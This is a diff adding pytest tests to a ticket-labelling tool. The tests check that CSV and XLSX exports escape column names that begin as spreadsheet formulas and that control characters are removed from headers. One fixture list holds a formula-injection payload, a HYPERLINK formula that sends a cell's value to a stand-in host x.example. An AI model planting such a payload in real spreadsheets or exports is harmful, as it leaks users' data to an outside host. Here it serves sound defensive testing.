@@ -1539,6 +1539,75 @@ def test_xlsx_output_says_it_removed_control_characters(
     assert "(the first: sheet row 3, column 'text')" in said
 
 
+# Column names as an export may have them (a spreadsheet's header row, a JSON key): the output's
+# header writes them back, where a spreadsheet runs them as it runs a cell.
+FORMULA_NAMES = ['=HYPERLINK("http://x.example/?d="&C2,"附件")', "@备注", "＋金额", "-1"]
+
+
+def formula_names_backlog(path: Path) -> Path:
+    with open(path, "w", encoding="utf-8", newline="") as f:
+        w = csv.writer(f)
+        w.writerow(["id", "title", "text", *FORMULA_NAMES])
+        w.writerow(["H1", "投诉", TINY_TICKETS[0][1], "a", "b", "c", "d"])
+    return path
+
+
+def test_csv_output_escapes_column_names_that_begin_as_formulas(
+    tiny_model_dir: Path, tmp_path: Path
+) -> None:
+    # The header was written as read: a column named "=HYPERLINK(…)" was a live formula in the
+    # first row of the file Excel opened, however carefully the cells under it were escaped.
+    src = formula_names_backlog(tmp_path / "in.csv")
+    result = label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
+    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as f:
+        header, row = list(csv.reader(f))
+    assert header[:7] == ["id", "title", "text", *("'" + n for n in FORMULA_NAMES[:3]), "-1"]
+    assert row[:7] == ["H1", "投诉", TINY_TICKETS[0][1], "a", "b", "c", "d"]
+    assert result.summary["formulas_escaped"] == 3
+    # For programs: the names as read.
+    label([src], tiny_model_dir, tmp_path / "raw.csv", jobs=1, escape_formulas=False)
+    raw = read_output(tmp_path / "raw.csv")
+    assert list(raw.columns[:7]) == ["id", "title", "text", *FORMULA_NAMES]
+
+
+def test_xlsx_output_writes_column_names_as_text_cells(
+    tiny_model_dir: Path, tmp_path: Path
+) -> None:
+    # openpyxl stored a header name beginning with "=" as a formula, which Excel runs.
+    import openpyxl
+
+    src = formula_names_backlog(tmp_path / "in.csv")
+    label([src], tiny_model_dir, tmp_path / "out.xlsx", jobs=1)
+    header = next(openpyxl.load_workbook(tmp_path / "out.xlsx").active.iter_rows(max_row=1))
+    assert [c.value for c in header[:7]] == ["id", "title", "text", *FORMULA_NAMES]
+    assert all(c.data_type == "s" for c in header)
+
+
+def test_xlsx_output_removes_control_characters_from_column_names_too(
+    tiny_model_dir: Path, tmp_path: Path
+) -> None:
+    # A JSON key holding a control character stopped the run with openpyxl's traceback
+    # (IllegalCharacterError), before a row was labelled; a cell holding one is cleaned and said.
+    import openpyxl
+
+    rows = [{"id": "K1", "text": TINY_TICKETS[0][1], "备\x01注": "x"}]
+    src = tmp_path / "in.jsonl"
+    src.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
+    out = tmp_path / "out.xlsx"
+    res = CliRunner().invoke(
+        app, ["label", str(src), "--model", str(tiny_model_dir), "--out", str(out), "--jobs", "1"]
+    )
+    assert res.exit_code == 0, res.output
+    sheet = openpyxl.load_workbook(out).active
+    assert [c.value for c in sheet[1]][:3] == ["id", "text", "备注"]
+    assert [c.value for c in sheet[2]][:3] == ["K1", TINY_TICKETS[0][1], "x"]
+    summary = json.loads((tmp_path / "out.xlsx.summary.json").read_text(encoding="utf-8"))
+    assert summary["cells_with_control_characters_removed"] == 1
+    said = " ".join(res.stderr.split())
+    assert "warning: 1 cell held control characters" in said, said
+    assert "(the first: sheet row 1, column " in said
+
+
 @pytest.fixture
 def small_sheet(monkeypatch: pytest.MonkeyPatch) -> int:
     """Excel's sheet lowered to a header and 20 rows; returns the rows it holds."""
